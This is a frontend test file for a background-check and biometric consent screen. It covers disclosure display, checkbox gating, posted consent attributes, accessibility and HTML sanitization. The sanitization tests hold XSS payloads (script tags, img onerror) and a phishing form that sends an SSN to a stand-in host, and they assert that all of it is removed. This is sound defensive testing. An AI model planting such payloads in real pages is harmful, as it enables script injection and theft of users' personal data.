import { AXE_WCAG_TAGS } from '../../../support/axe-tags';
import { screen, waitFor } from '@testing-library/react';
import axe from 'axe-core';
import { issuerOf, question } from '../../../application/fakes/fake-interview-service';
import { FCRA_DISCLOSURE } from '../../../support/fcra-disclosure';
import { button, lastPosted, openQuestion } from '../../support/open-question';

const accept = 'I have read and accept this disclosure';
/** A consent text as the port gives it: the issuer sent the HTML alone (a string entry). */
const htmlOnly = (html: string) => ({ html, data: {} });
const consent = (attrType: string) =>
  question(attrType, { type: 'consent', metadata: { title: 'Background check consent' } });

type Opened = Awaited<ReturnType<typeof openQuestion>>;

/** Ticks 'I have read and accept this disclosure', authorizes, and answers what was sent. */
async function authorize({ app, user }: Opened): Promise<unknown> {
  await user.click(screen.getByRole('checkbox', { name: accept }));
  await user.click(button('Authorize'));
  await waitFor(() => expect(app.service.callsTo('postAttributeData')).toHaveLength(1));
  return lastPosted(app);
}

describe('the background check consent', () => {
  it('shows the default disclosure, needs the box ticked and authorizes', async () => {
    const { app, user } = await openQuestion(consent('consent.fcra'), accept);
    expect(
      screen.getByRole('heading', { level: 2, name: 'Background Check Disclosure & Authorization' }),
    ).toBeVisible();
    expect(screen.getByRole('heading', { name: 'APPLICANT DISCLOSURE STATEMENT' })).toBeVisible();
    expect(screen.queryByRole('checkbox', { name: 'I wish to receive a free copy of the report' })).toBeNull();
    expect(button('Authorize')).toBeDisabled();

    await user.click(screen.getByRole('checkbox', { name: accept }));
    await user.click(screen.getByRole('checkbox', { name: accept }));
    await user.tab();
    expect(screen.getByRole('checkbox', { name: accept })).toHaveAccessibleDescription(
      'Tick "I have read and accept this disclosure" to continue',
    );

    // Without the issuer's consent HTML the authorized attribute is dropped (spec 001 §5.10).
    expect(await authorize({ app, user })).toEqual({
      'consent.fcra.reviewed_disclosure': { shareWith: ['acme'], value: true },
    });
  });

  it("shows the biometric consent's fixed text under a heading of its own and sends only its attribute", async () => {
    const { app, user } = await openQuestion(
      question('consent.biometric.authorization', { type: 'consent', metadata: { title: 'Biometric consent' } }),
      accept,
      (opened) => {
        // The issuer's FCRA text is for the background check: never shown here.
        opened.service.issuer = issuerOf({ consentHtml: { 'consent.fcra': htmlOnly('<p>Acme may check you.</p>') } });
      },
    );
    expect(screen.getByRole('heading', { level: 2, name: 'Biometric Data Consent' })).toBeVisible();
    expect(screen.queryByRole('heading', { name: 'Background Check Disclosure & Authorization' })).toBeNull();
    expect(screen.queryByRole('heading', { name: 'APPLICANT DISCLOSURE STATEMENT' })).toBeNull();
    expect(screen.queryByText('Acme may check you.')).toBeNull();
    expect(screen.getByRole('region', { name: 'Biometric Data Consent' })).toHaveTextContent(
      'I consent to the collection and use of my facial geometry from the photos I provide, only to verify my identity for this request. It is kept no longer than needed for that purpose or as the law requires.',
    );
    expect(screen.queryByRole('checkbox', { name: 'I wish to receive a free copy of the report' })).toBeNull();
    expect(await authorize({ app, user })).toEqual({
      'consent.biometric.authorization': { shareWith: ['acme'], value: true },
    });
  });

  it('renders the issuer HTML sanitized, falling back to consent.fcra', async () => {
    await openQuestion(consent('consent.fcra.authorized'), accept, (app) => {
      app.service.issuer = issuerOf({
        consentHtml: {
          'consent.fcra': htmlOnly(
            '<h3>Acme disclosure</h3><p>We check.</p><script>window.pwned = 1</script><img src="x" onerror="window.pwned = 2">',
          ),
        },
      });
    });
    expect(await screen.findByRole('heading', { name: 'Acme disclosure' })).toBeVisible();
    expect(screen.getByText('We check.')).toBeVisible();
    expect(screen.queryByRole('heading', { name: 'APPLICANT DISCLOSURE STATEMENT' })).toBeNull();
    expect(document.querySelector('script')).toBeNull();
    expect(document.querySelector('[onerror]')).toBeNull();
    expect((window as { pwned?: number }).pwned).toBeUndefined();
  });

  it('removes a phishing form and a restyling style from the issuer HTML, and opens its links in a new tab', async () => {
    await openQuestion(consent('consent.fcra'), accept, (app) => {
      app.service.issuer = issuerOf({
        consentHtml: {
          'consent.fcra': htmlOnly(
            '<style>h2{color:white} label::after{content:" and waive my rights"}</style>' +
              '<h3 class="visually-hidden" style="display:none">Acme disclosure</h3>' +
              '<form action="https://evil.example/collect"><label>SSN <input name="ssn"></label>' +
              '<button class="button button--primary">Confirm</button></form>' +
              '<p>Read <a href="https://acme.example/fcra" target="_self">your rights</a>.</p>',
          ),
        },
      });
    });
    const heading = await screen.findByRole('heading', { level: 3, name: 'Acme disclosure' });
    const text = heading.parentElement as HTMLElement;
    expect(text.querySelectorAll('form, input, button, label, style, [style], [class]')).toHaveLength(0);
    expect(screen.queryByRole('button', { name: 'Confirm' })).toBeNull();
    expect(screen.queryByRole('textbox')).toBeNull();
    expect([...document.querySelectorAll('style')].map((style) => style.textContent).join()).not.toMatch(/waive/);
    // The page's own controls are still the only ones.
    expect(screen.getByRole('checkbox', { name: accept })).toBeVisible();
    const link = screen.getByRole('link', { name: 'your rights (opens in a new tab)' });
    expect(link).toHaveAttribute('href', 'https://acme.example/fcra');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it("shows a realistic disclosure (headings, lists, a table, links, the issuer's seal) that passes axe", async () => {
    await openQuestion(consent('consent.fcra'), accept, (app) => {
      app.service.issuer = issuerOf({ consentHtml: { 'consent.fcra': htmlOnly(FCRA_DISCLOSURE) } });
    });
    expect(await screen.findByRole('heading', { level: 3, name: 'The report may include' })).toBeVisible();
    expect(screen.getByRole('table', { name: 'Consumer reporting agency' })).toBeVisible();
    expect(screen.getByRole('columnheader', { name: 'Address' })).toBeVisible();
    expect(screen.getByRole('img', { name: 'Acme seal' })).toBeVisible();
    expect(screen.getByRole('link', { name: 'privacy@acme.example' })).toHaveAttribute('target', '_blank');
    expect(
      screen.getByRole('link', { name: 'A Summary of Your Rights Under the FCRA (opens in a new tab)' }),
    ).toHaveAttribute('rel', 'noopener noreferrer');
    const results = await axe.run(document.body, {
      runOnly: [...AXE_WCAG_TAGS],
      rules: { 'color-contrast': { enabled: false } },
    });
    expect(results.violations.map((violation) => `${violation.id}: ${violation.help}`)).toEqual([]);
  });

  it('offers the free copy on the state resident notice and sends each attribute as its own boolean', async () => {
    const { app, user } = await openQuestion(consent('consent.fcra.state_resident_notice'), accept, (app) => {
      app.service.issuer = issuerOf({ consentHtml: { 'consent.fcra': htmlOnly('<p>Acme disclosure</p>') } });
    });
    expect(screen.getByText(/California, Minnesota or Oklahoma/)).toBeVisible();

    await user.click(screen.getByRole('checkbox', { name: 'I wish to receive a free copy of the report' }));
    expect(button('Authorize')).toBeDisabled();
    expect(await authorize({ app, user })).toEqual({
      'consent.fcra.authorized': { shareWith: ['acme'], value: true },
      'consent.fcra.reviewed_disclosure': { shareWith: ['acme'], value: true },
      'consent.fcra.requested_free_copy_state': { shareWith: ['acme'], value: true },
    });
  });

  it('shows an entry given with data, filled and sanitized, and sends the authorized consent', async () => {
    const { app, user } = await openQuestion(consent('consent.fcra'), accept, (app) => {
      app.service.issuer = issuerOf({
        consentHtml: {
          'consent.fcra': {
            html: '<h3>{{ company }} disclosure</h3><p>{{agency}} prepares the report.</p><p>{{unknown}}</p>',
            data: { company: 'Northwind Care', agency: '<img src=x onerror="window.pwned = 3">Checkr & Co' },
          },
        },
      });
    });
    expect(await screen.findByRole('heading', { name: 'Northwind Care disclosure' })).toBeVisible();
    // Data is text: its markup shows as written and never reaches the DOM as an element.
    expect(screen.getByText('<img src=x onerror="window.pwned = 3">Checkr & Co prepares the report.')).toBeVisible();
    expect(document.querySelector('[onerror]')).toBeNull();
    expect((window as { pwned?: number }).pwned).toBeUndefined();
    expect(screen.getByText('{{unknown}}')).toBeVisible();
    expect(screen.queryByRole('heading', { name: 'APPLICANT DISCLOSURE STATEMENT' })).toBeNull();

    expect(await authorize({ app, user })).toEqual({
      'consent.fcra.authorized': { shareWith: ['acme'], value: true },
      'consent.fcra.reviewed_disclosure': { shareWith: ['acme'], value: true },
    });
  });
});
